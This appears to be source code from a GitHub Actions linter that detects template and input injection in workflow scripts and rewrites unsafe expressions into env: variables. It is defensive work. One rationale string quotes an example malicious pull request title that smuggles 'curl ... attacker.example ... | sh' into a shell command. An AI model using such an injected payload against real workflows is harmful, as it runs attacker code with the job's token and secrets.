"""Template and input injection: untrusted text pasted into a script (PSK011, PSK012).

A ``${{ }}`` expression is replaced by its value before the shell (or Node.js, for
``actions/github-script``) reads the script, so a value someone else wrote becomes code.
The sinks are ``run:`` and github-script's ``script:``; ``env:`` is the safe route.
"""

from ... import nodes
from ...fixes import PLAIN, Edit, Fix, add_pair, plain_node, yaml_value
from ...model import rule
from ...readers.contexts import env_routes, free_text_input, input_name, untrusted
from ...readers.expressions import located, parse, pasted, spans
from ...readers.script_env import double_quoted, env_holding, env_name, posix_shell
from .examples import REF, workflow


def _scripts(wf):
    """``(step, scalar node)`` of every script: ``run:`` and github-script's ``script:``."""
    for step in wf.steps():
        if nodes.is_scalar(step.run):
            yield step, step.run
        elif step.action == "actions/github-script" and nodes.is_scalar(step.input("script")):
            yield step, step.input("script")


def _display(path):
    return ".".join(path)


def _pasted_in_scripts(wf):
    """``(step, line, pasted path, via env name or None)`` for every script expression,
    computed once for both rules."""
    found = wf.memo.get("pasted-in-scripts")
    if found is None:
        found = wf.memo["pasted-in-scripts"] = []
        lines = wf.doc.lines
        for step, node in _scripts(wf):
            for line, tree in located(node, lines):
                for path in pasted(tree):
                    found.append((step, line, path, None))
                    found.extend((step, line, inner, via) for inner, via in env_routes(step, path))
    return found


def _where(step):
    """Where the value lands, and how to read it from the environment there."""
    if nodes.is_scalar(step.run):
        return "run:; pass it through env: and use it as \"$VAR\""
    return "github-script's script:; pass it through env: and read process.env.VAR"


@rule(
    id="PSK011", name="template-injection", severity="high", domain="github-actions",
    requires=("${{",),
    targets=("workflow", "action"), reference=REF + "#template-injection", since="0.2.0",
    summary="Untrusted event text (titles, bodies, branch names) expanded in `run:` or `github-script`",
    rationale=(
        "`${{ }}` is replaced by its value before the shell or Node.js reads the script. A pull "
        "request title, an issue body, a commit message or a branch name is text a stranger "
        "chose, so pasting it into a script lets them write part of it: a title like "
        "`a\"; curl -s https://attacker.example/x | sh; echo \"` runs with the job's token and "
        "secrets. Under `pull_request_target`, `issue_comment` or `issues` that token can write."),
    fix=(
        "Pass the value through `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and "
        "use it as a quoted shell variable (`\"$TITLE\"`), never `${{ env.TITLE }}`; in "
        "github-script, read `context.payload` or `process.env` instead of splicing the value "
        "into the JavaScript."),
    bad=workflow('run: echo "${{ github.event.head_commit.message }}"'),
    good=workflow('run: echo "$MESSAGE"\n        env:\n'
                  '          MESSAGE: ${{ github.event.head_commit.message }}'),
    limits=(
        "Reads `run:` and `actions/github-script`'s `script:` only; values that reach other "
        "actions' inputs are not followed. `${{ env.NAME }}` is followed to the `env:` "
        "mappings of the same file, so an env value set from a safe context is not "
        "reported (zizmor reports every `env.*` expansion). Step outputs "
        "(`steps.*.outputs.*`, `needs.*.outputs.*`) and matrix values are not treated as "
        "untrusted even when a previous step copied event text into them (zizmor reports "
        "those at low or medium confidence). Following RULES.md, `github.ref_name`, "
        "`github.base_ref`, `github.workflow` and everything under `pull_request.base` are "
        "names chosen by people with write access and are not flagged (zizmor flags them); "
        "`github.event.ref` is the value of `github.ref` and is read like it, not flagged; "
        "`github.event.repository.*` is the repository's own data, like "
        "`github.repository`, and is not flagged either; `github.event.inputs.*` is an input "
        "(PSK012). Every other `github.event` path ending in `title`, `body`, `message`, "
        "`name`, `email`, `label`, `ref` or `page_name` is flagged whatever the trigger "
        "(zizmor lowers its confidence for triggers outsiders cannot start). `toJSON()` of an "
        "object is flagged when the object holds one of the fields RULES.md lists by name "
        "(`github`, `github.event`, `github.event.pull_request`, ...), not for other objects "
        "such as a label list. Expressions GitHub would reject (unbalanced, nested deeper "
        "than 50 levels) are skipped."),
    precision="high",
    fixable=True,
)
def template_injection(wf):
    for step, line, path, via in _pasted_in_scripts(wf):
        if untrusted(path):
            route = f" (through env.{via})" if via else ""
            yield line, (f"'{_display(path)}'{route} is expanded into {_where(step)}"), \
                Fix(_to_env, step, line, path, via)


@rule(
    id="PSK012", name="input-injection", severity="medium", domain="github-actions",
    requires=("${{",),
    targets=("workflow", "action"), reference=REF + "#input-injection", since="0.2.0",
    summary="`${{ inputs.* }}` expanded in `run:` or `github-script`",
    rationale=(
        "An input of a composite action, a reusable workflow or a manually started workflow "
        "holds whatever the caller passed, and callers routinely pass branch names and titles "
        "straight through. Pasted into a script it is code, so an action is only as safe as "
        "its least careful caller. Inputs typed `boolean`, `number` or `choice` cannot carry "
        "a command."),
    fix=(
        "Pass the input through `env:` (`BRANCH: ${{ inputs.branch }}`) and use `\"$BRANCH\"` "
        "in the script, or give a workflow input a `boolean`, `number` or `choice` type when "
        "that is what it holds."),
    bad=workflow('run: ./deploy.sh "${{ inputs.target }}"').replace(
        "on: push\n", "on:\n  workflow_dispatch:\n    inputs:\n      target:\n"
                      "        type: string\n"),
    good=workflow('run: ./deploy.sh "$TARGET"\n        env:\n'
                  '          TARGET: ${{ inputs.target }}').replace(
        "on: push\n", "on:\n  workflow_dispatch:\n    inputs:\n      target:\n"
                      "        type: string\n"),
    limits=(
        "Composite action inputs have no type, so every one of them is flagged when pasted "
        "into a script. A workflow input typed `boolean`, `number`, `choice` or `environment` "
        "in every trigger that declares it is not flagged; an input no trigger declares is. "
        "zizmor's `template-injection` reports these too, and also follows inputs into "
        "other actions' inputs; we read only `run:` and github-script's `script:`. "
        "`toJSON(inputs)` counts as every input. Callers are not followed: a string input is "
        "flagged whether it carries a pull request title or a maintainer's version number, "
        "which is why most findings on real repositories are hardening, not a reachable "
        "injection."),
    precision="low",
    fixable=True,
)
def input_injection(wf):
    for step, line, path, via in _pasted_in_scripts(wf):
        name = input_name(path)
        if name is not None and free_text_input(wf, name):
            route = f" (through env.{via})" if via else ""
            shown = "inputs" if name == "*" else f"inputs.{name}"
            yield line, (f"'{shown}'{route} is expanded into {_where(step)}"), \
                Fix(_to_env, step, line, path, via)


# Where steps conventionally name themselves; a new ``env:`` goes after the first of these.
_ENV_AFTER = ("name", "id", "if", "uses", "shell", "working-directory", "continue-on-error",
              "timeout-minutes")


def _to_env(text, step, line, path, via):
    """The safe fix: ``"${{ x }}"`` in a POSIX shell script becomes ``"$NAME"`` with
    ``NAME: ${{ x }}`` in the step's ``env:``; a value already routed through ``env.NAME``
    is read as ``"$NAME"``. Only expressions inside double quotes (see script_env)."""
    run = step.run
    if not nodes.is_scalar(run) or run.style not in PLAIN + ("|", ">") or not posix_shell(step) \
            or not plain_node(text, step.node, step.env):
        return None
    begin = text.offset(run.start_mark)
    if run.style in ("|", ">"):  # a block scalar starts on the line after its indicator
        begin = text.starts[run.start_mark.line + 1]
    script = text.text[begin:text.offset(run.end_mark)]
    row = text.starts[line - 1]
    found = []  # (start, end, expression text) on the finding's line
    for offset, body in spans(text.line_text(line - 1)):
        tree = parse(body)
        wanted = tree == ("path", ("env", via.lower())) if via else \
            tree is not None and path in pasted(tree)
        if wanted:
            start = row + offset
            found.append((start, start + len(body) + 5, text.text[start:start + len(body) + 5]))
    if not found or len({f[2] for f in found}) != 1 or found[0][0] <= begin:
        return None
    if not all(double_quoted(script, start - begin) for start, _, _ in found):
        return None
    expression, edits = found[0][2], []
    name = via or env_holding(step, expression.strip())
    if name is None:
        name = env_name(step, path, script)
        entry = f"{name}: {yaml_value(expression)}"
        if step.env is not None:
            edits = add_pair(text, step.env, [(0, entry)])
        else:
            edits = add_pair(text, step.node, [(0, "env:"), (1, entry)], after=_ENV_AFTER)
        if not edits:
            return None
    for start, end, _ in found:
        follows = text.text[end:end + 1]
        word = f"${{{name}}}" if follows and (follows.isalnum() or follows == "_") else f"${name}"
        edits.append(Edit(start, end, word))
    return edits
